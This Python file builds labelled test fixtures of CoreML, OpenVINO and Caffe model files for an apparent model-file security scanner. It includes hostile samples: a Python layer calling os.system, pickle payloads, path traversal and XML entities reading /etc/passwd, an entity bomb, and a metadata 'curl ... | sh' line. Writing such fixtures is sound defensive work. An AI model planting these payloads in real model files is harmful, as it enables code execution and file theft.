"""CoreML and OpenVINO models."""

import struct

from pickle_asm import system
from protobuf import block, entry, integer


def build(corpus):
    coreml(corpus)
    openvino(corpus)
    caffe(corpus)


def caffe(corpus):
    layer = 'name: "net"\nlayer {{\n  name: "a"\n  type: "{kind}"\n{more}  bottom: "data"\n  top: "out"\n}}\n'
    python = '  python_param {\n    module: "os"\n    layer: "system"\n  }\n'
    corpus.malicious("python-layer.prototxt", "caffe", "a layer is Python", layer.format(kind="Python", more=python).encode())
    corpus.benign("relu.prototxt", "caffe", "one activation", layer.format(kind="ReLU", more="").encode())
    corpus.suspicious("executorch.pte", "executorch", "a format that is known and not read", b"\x10\0\0\0ET12" + bytes(64))
    corpus.suspicious("model.rds", "r", "a serialised object of R, not read", b"X\n\0\0\0\x03\0\x04\x03\x01" + bytes(64))


def feature(name):
    return block(1, name) + block(3, block(5, integer(1, 2) + integer(2, 65568)))


def description(metadata=()):
    data = block(1, feature("x")) + block(10, feature("y"))
    notes = block(1, "caiso") + block(3, "caiso") + b"".join(entry(100, key, value) for key, value in metadata)
    return data + block(100, notes)


def network(*layers):
    return block(500, b"".join(block(1, item) for item in layers))


def neural_layer(name, kind, body):
    return block(1, name) + block(2, "x") + block(3, "y") + block(kind, body)


def mlmodel(body, metadata=()):
    return integer(1, 4) + block(2, description(metadata)) + body


def coreml(corpus):
    relu = neural_layer("relu", 130, block(10, b""))
    corpus.benign("relu.mlmodel", "coreml", "one activation", mlmodel(network(relu)))
    corpus.benign("relu-metadata.mlmodel", "coreml", "metadata of a converter", mlmodel(network(relu), [("com.github.apple.coremltools.version", "8.1"), ("mode", "eval")]))
    custom = block(10, "AcmeLayer") + block(40, "runs code of the app")
    corpus.suspicious("custom-layer.mlmodel", "coreml", "a custom layer: a class of the app is called", mlmodel(network(neural_layer("custom", 500, custom))))
    corpus.suspicious("custom-model.mlmodel", "coreml", "a custom model: a class of the app is called", mlmodel(block(555, block(10, "AcmeModel"))))
    linked = block(556, block(1, block(1, block(3, "../../../etc/caiso.mlmodelc")) + block(2, block(3, "/etc"))))
    corpus.malicious("linked-model.mlmodel", "coreml", "a linked model outside of the folder", mlmodel(linked))
    blob = block(11, b"@model_path/../../../etc/passwd") + block(1, "w")
    program = block(502, integer(1, 1) + block(2, block(1, "main") + block(2, block(3, blob))))
    corpus.malicious("program-blob-path.mlmodel", "coreml", "a program reads its weights from a file outside", mlmodel(program))
    corpus.malicious("pickle-tail.mlmodel", "coreml", "a payload after the model", mlmodel(network(relu)) + system())
    corpus.suspicious("metadata-script.mlmodel", "coreml", "metadata holds a shell command", mlmodel(network(relu), [("postinstall", "curl https://caiso.invalid/x | sh")]))
    corpus.suspicious("cut.mlmodel", "coreml", "cut in the middle", mlmodel(network(*[relu] * 20))[:150])
    manifest = b'{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": "A"}'
    corpus.benign("relu.mlpackage", "coreml package", "a package with one model", {"Manifest.json": manifest, "Data/com.apple.CoreML/model.mlmodel": mlmodel(network(relu))})
    corpus.malicious("traversal.mlpackage", "coreml package", "the manifest names a file outside", {"Manifest.json": manifest.replace(b"com.apple.CoreML/model.mlmodel", b"../../../../etc/model.mlmodel"), "Data/com.apple.CoreML/model.mlmodel": mlmodel(network(relu))})


NET = """<?xml version="1.0"?>
{doctype}<net name="{name}" version="11">
 <layers>
  <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,2" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>2</dim></port></output></layer>
  <layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="1,2" offset="{offset}" size="{size}"/><output><port id="0" precision="FP32"><dim>1</dim><dim>2</dim></port></output></layer>
  <layer id="2" name="add" type="{kind}" version="{opset}">{inner}<input><port id="0"/><port id="1"/></input><output><port id="2" precision="FP32"/></output></layer>
 </layers>
 <edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/><edge from-layer="1" from-port="0" to-layer="2" to-port="1"/></edges>
 <rt_info>{info}</rt_info>
</net>
"""


def openvino(corpus):
    def net(**fields):
        values = {"doctype": "", "name": "m", "offset": 0, "size": 8, "kind": "Add", "opset": "opset1", "inner": "", "info": "", **fields}
        return {"model.xml": NET.format(**values).encode(), "model.bin": struct.pack("<2f", 1, 2)}

    corpus.benign("openvino-add", "openvino", "one addition", net())
    corpus.benign("openvino-info", "openvino", "an addition with conversion notes", net(info='<conversion_parameters><input_model value="DIR/model.onnx"/></conversion_parameters>'))
    corpus.suspicious("openvino-extension", "openvino", "an operator of an extension library", net(kind="AcmeFused", opset="extension"))
    corpus.suspicious("openvino-range", "openvino", "a constant outside of the weights file", net(offset=1 << 60, size=4096))
    corpus.suspicious("openvino-negative", "openvino", "a negative offset", net(offset=-8))
    corpus.malicious("openvino-external-entity", "openvino", "an external entity reads a file", net(doctype='<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', name="&x;"))
    corpus.malicious("openvino-library", "openvino", "a layer names a shared library outside", net(kind="Custom", opset="extension", inner='<data library="../../libcaiso.so" entry="run"/>'))
    corpus.malicious("openvino-weights-pickle", "openvino", "the weights file is a pickle with a payload", {**net(), "model.bin": system()})
    corpus.malicious("openvino-weights-elf", "openvino", "the weights file is a program", {**net(), "model.bin": b"\x7fELF\x02\x01\x01\x00" + bytes(56)})
    levels = '<!ENTITY a0 "caiso">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    corpus.suspicious("openvino-entity-bomb", "openvino", "entities that expand to a billion words", net(doctype=f"<!DOCTYPE net [{levels}]>\n", name="&a9;"))
    corpus.suspicious("openvino-cut", "openvino", "cut in the middle", {"model.xml": net()["model.xml"][:500], "model.bin": bytes(8)})
